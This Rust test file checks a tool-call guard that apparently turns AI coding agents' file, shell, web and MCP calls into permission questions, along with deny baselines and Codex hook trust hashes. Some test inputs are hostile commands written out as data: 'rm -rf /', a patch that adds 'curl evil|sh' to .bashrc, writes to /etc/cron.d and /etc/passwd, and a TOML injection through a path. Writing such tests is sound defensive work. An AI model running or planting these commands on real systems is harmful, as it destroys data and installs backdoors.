//! Tool calls of each agent mapped to the questions the daemon answers.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

use serde_json::{Value, json};
use ward_agent::toolcall::{ToolCall, questions};

/// `action resource @cwd` per question of `tool` with `input` in `/w`.
fn check(tool: &str, input: Value, expected: &[&str]) {
    let call = ToolCall {
        tool,
        input: &input,
        cwd: "/w",
        home: Some("/home/u"),
    };
    let got: Vec<String> = questions(&call)
        .unwrap_or_else(|why| panic!("{tool} {input}: {why}"))
        .into_iter()
        .map(|q| format!("{} {} @{}", q.action, q.resource, q.cwd))
        .collect();
    assert_eq!(got, expected, "{tool} {input}");
}

fn unsure(tool: &str, input: Value, because: &str) {
    let call = ToolCall {
        tool,
        input: &input,
        cwd: "/w",
        home: None,
    };
    match questions(&call) {
        Ok(q) => panic!("{tool} {input} was judged: {q:?}"),
        Err(why) => assert!(why.0.contains(because), "{why}"),
    }
}

#[test]
fn file_tools_of_each_agent() {
    check(
        "Read",
        json!({"file_path": "/w/a.rs"}),
        &["files:read /w/a.rs @/w"],
    );
    check(
        "read_file",
        json!({"absolute_path": "/w/a"}),
        &["files:read /w/a @/w"],
    );
    check(
        "Write",
        json!({"file_path": "b", "content": ""}),
        &["files:write b @/w"],
    );
    check(
        "MultiEdit",
        json!({"file_path": "/x", "edits": []}),
        &["files:write /x @/w"],
    );
    check(
        "replace",
        json!({"file_path": "/x"}),
        &["files:write /x @/w"],
    );
    check(
        "NotebookEdit",
        json!({"notebook_path": "/n.ipynb"}),
        &["files:write /n.ipynb @/w"],
    );
    check("LS", json!({"path": "/w/src"}), &["files:read /w/src @/w"]);
    check("Grep", json!({"pattern": "x"}), &["files:read /w @/w"]);
    check(
        "Grep",
        json!({"pattern": "x", "path": "/etc"}),
        &["files:read /etc @/w"],
    );
    check(
        "Glob",
        json!({"pattern": "**/*.rs"}),
        &["files:read /w @/w"],
    );
    check(
        "Glob",
        json!({"pattern": "src/**/*.rs"}),
        &["files:read /w/src @/w"],
    );
    check(
        "Glob",
        json!({"pattern": "/etc/*.conf"}),
        &["files:read /etc @/w"],
    );
    check("Glob", json!({"pattern": "/*"}), &["files:read / @/w"]);
    check(
        "Glob",
        json!({"pattern": "../../secret"}),
        &["files:read /w/../../secret @/w"],
    );
    check(
        "Glob",
        json!({"pattern": "*.md", "path": "/d"}),
        &["files:read /d @/w"],
    );
}

#[test]
fn shell_tools_of_each_agent() {
    check(
        "Bash",
        json!({"command": "cat a > b"}),
        &["files:write b @/w", "exec:run cat @/w", "files:read a @/w"],
    );
    check(
        "run_shell_command",
        json!({"command": "rm x", "directory": "sub"}),
        &["exec:run rm @/w/sub", "files:delete x @/w/sub"],
    );
    // Codex: argv, each word a word whatever it holds.
    check(
        "shell",
        json!({"command": ["bash", "-lc", "curl x | jq ."], "workdir": "/p"}),
        &["exec:run bash @/p", "exec:run curl @/p", "exec:run jq @/p"],
    );
    check(
        "shell",
        json!({"command": ["echo", "$(rm -rf /)", "it's"]}),
        &[],
    );
    unsure("Bash", json!({"command": "eval x"}), "`eval`");
    unsure("Bash", json!({}), "without `command`");
    unsure("Bash", json!({"command": 5}), "not a non-empty string");
    unsure("shell", json!({"command": []}), "empty command argv");
    unsure("shell", json!({"command": ["ls", 1]}), "not a string");
}

#[test]
fn web_mcp_and_other_tools() {
    check(
        "WebFetch",
        json!({"url": "https://x.example/a", "prompt": "p"}),
        &["http:get https://x.example/a @/w"],
    );
    check(
        "mcp__github__create_issue",
        json!({}),
        &["mcp:call github/create_issue @/w"],
    );
    check(
        "TodoWrite",
        json!({"todos": []}),
        &["tool:call TodoWrite @/w"],
    );
    check(
        "WebSearch",
        json!({"query": "x"}),
        &["tool:call WebSearch @/w"],
    );
    unsure("mcp__nodelimiter", json!({}), "not an MCP tool name");
    unsure("Read", json!({}), "without `file_path`");
    unsure("Read", json!({"file_path": ""}), "not a non-empty string");
    unsure(
        "Read",
        json!({"file_path": ["a"]}),
        "not a non-empty string",
    );
    unsure("bad tool\n", json!({}), "cannot be judged");
    unsure("", json!({}), "cannot be judged");
}

#[test]
fn the_deny_baseline_names_the_families_the_profile_grants_nothing_of() {
    use ward_agent::install::baseline;
    let servers = ["fs".to_owned(), "shell".to_owned()];
    let rules = baseline(&["files:read:/home/alice/**".to_owned()], &servers);
    assert_eq!(
        rules,
        [
            "Edit",
            "Write",
            "NotebookEdit",
            "Bash",
            "WebFetch",
            "WebSearch",
            "mcp__fs",
            "mcp__shell"
        ]
    );
    let everything = [
        "files:*:/home/alice/**",
        "exec:run:/usr/bin/git",
        "http:get:https://api.example.com/**",
        "mcp:call:fs/read_text_file",
    ]
    .map(str::to_owned);
    assert_eq!(baseline(&everything, &servers), ["mcp__shell"]);
    assert_eq!(
        baseline(&["mcp:call:**".to_owned()], &servers)
            .last()
            .unwrap(),
        "WebSearch"
    );
    // Unparseable scopes grant nothing.
    assert_eq!(baseline(&["nonsense".to_owned()], &[]).len(), 7);
}

#[test]
fn codex_patches_write_every_file_they_name() {
    let patch = "*** Begin Patch\n*** Add File: hello.txt\n+hi\n*** Update File: src/a.rs\n@@\n-x\n+y\n*** Move to: /etc/cron.d/evil\n*** Delete File: old.txt\n*** End Patch\n";
    check(
        "apply_patch",
        json!({"command": patch}),
        &[
            "files:write hello.txt @/w",
            "files:write src/a.rs @/w",
            "files:write /etc/cron.d/evil @/w",
            "files:write old.txt @/w",
        ],
    );
    unsure("apply_patch", json!({"command": "rm -rf /"}), "not a patch");
    unsure(
        "apply_patch",
        json!({"command": "*** Begin Patch\n*** End Patch\n"}),
        "names no file",
    );
    unsure(
        "apply_patch",
        json!({"command": "*** Begin Patch\n*** Add File: \n*** End Patch"}),
        "without a path",
    );
    unsure("apply_patch", json!({}), "without `command`");
    // Codex trims each line: an indented header is a header.
    check(
        "apply_patch",
        json!({"command": "*** Begin Patch\r\n*** Add File: ok.txt\r\n+x\r\n  *** Add File: /home/u/.bashrc\n+curl evil|sh\n*** End Patch"}),
        &["files:write ok.txt @/w", "files:write /home/u/.bashrc @/w"],
    );
    unsure(
        "apply_patch",
        json!({"command": "*** Begin Patch\n*** Rename File: a -> /etc/passwd\n*** End Patch"}),
        "does not know",
    );
}

#[test]
fn a_gemini_shell_command_runs_in_its_dir_path() {
    check(
        "run_shell_command",
        json!({"command": "cat notes.txt", "dir_path": "sub", "description": "read"}),
        &["exec:run cat @/w/sub", "files:read notes.txt @/w/sub"],
    );
}

#[test]
fn codex_trust_hashes_are_the_ones_codex_computes() {
    use ward_agent::install::{Record, codex_trust};
    // Values Codex 0.169.1 reported in `hooks/list` for these handlers.
    let record = Record {
        hooks: vec![
            (
                "PreToolUse".into(),
                json!({"matcher": "*", "hooks": [{"type": "command",
                    "command": "/tmp/agents-research/bin/dump-hook.sh allow", "timeout": 30}]}),
            ),
            (
                "SessionStart".into(),
                json!({"hooks": [{"type": "command",
                    "command": "ward hook codex --state-dir /var/lib/ward"}]}),
            ),
        ],
        positions: vec![("PreToolUse".into(), 2), ("SessionStart".into(), 0)],
        ..Record::default()
    };
    let text = codex_trust(std::path::Path::new("/home/a/.codex/hooks.json"), &record);
    assert!(
        text.contains(
            "[hooks.state.\"/home/a/.codex/hooks.json:pre_tool_use:2:0\"]\ntrusted_hash = \"sha256:d785da4d7d9a57df82dcdb3c5a52f030518ef999609c091e073c7843246e0b2f\"\n"
        ),
        "{text}"
    );
    // No matcher and no timeout (600): Codex's value for PreToolUse was
    // fbbab114…; for SessionStart the label differs, so the hash does too.
    assert!(
        text.contains("[hooks.state.\"/home/a/.codex/hooks.json:session_start:0:0\"]"),
        "{text}"
    );
    let pre = Record {
        hooks: vec![(
            "PreToolUse".into(),
            json!({"hooks": [{"type": "command",
                "command": "ward hook codex --state-dir /var/lib/ward"}]}),
        )],
        positions: vec![("PreToolUse".into(), 0)],
        ..Record::default()
    };
    assert!(
        codex_trust(std::path::Path::new("/h.json"), &pre)
            .contains("sha256:fbbab11404b1dfe7cb74499522bf8995a43d550d1fe7b31521f7072cffcd940d")
    );
    // A path with a quote stays one TOML key.
    let odd = codex_trust(std::path::Path::new("/a\"b/hooks.json"), &pre);
    assert!(
        odd.contains("[hooks.state.\"/a\\\"b/hooks.json:pre_tool_use:0:0\"]"),
        "{odd}"
    );
}

#[test]
fn a_path_cannot_break_out_of_the_codex_trust_entries() {
    use ward_agent::install::{Record, codex_trust};
    let record = Record {
        hooks: vec![(
            "PreToolUse".into(),
            json!({"matcher": "*", "hooks": [{"type": "command", "command": "x", "timeout": 30}]}),
        )],
        positions: vec![("PreToolUse".into(), 0)],
        ..Record::default()
    };
    let text = codex_trust(
        std::path::Path::new("/tmp/a\n[evil]\nx = 1\n/hooks.json"),
        &record,
    );
    // Three lines: the comment, the table, the hash; no line of the path's own.
    assert_eq!(text.trim().lines().count(), 3, "{text}");
    assert!(!text.contains("\n[evil]"), "{text}");
    assert!(text.contains("\\u000A[evil]\\u000A"), "{text}");
}
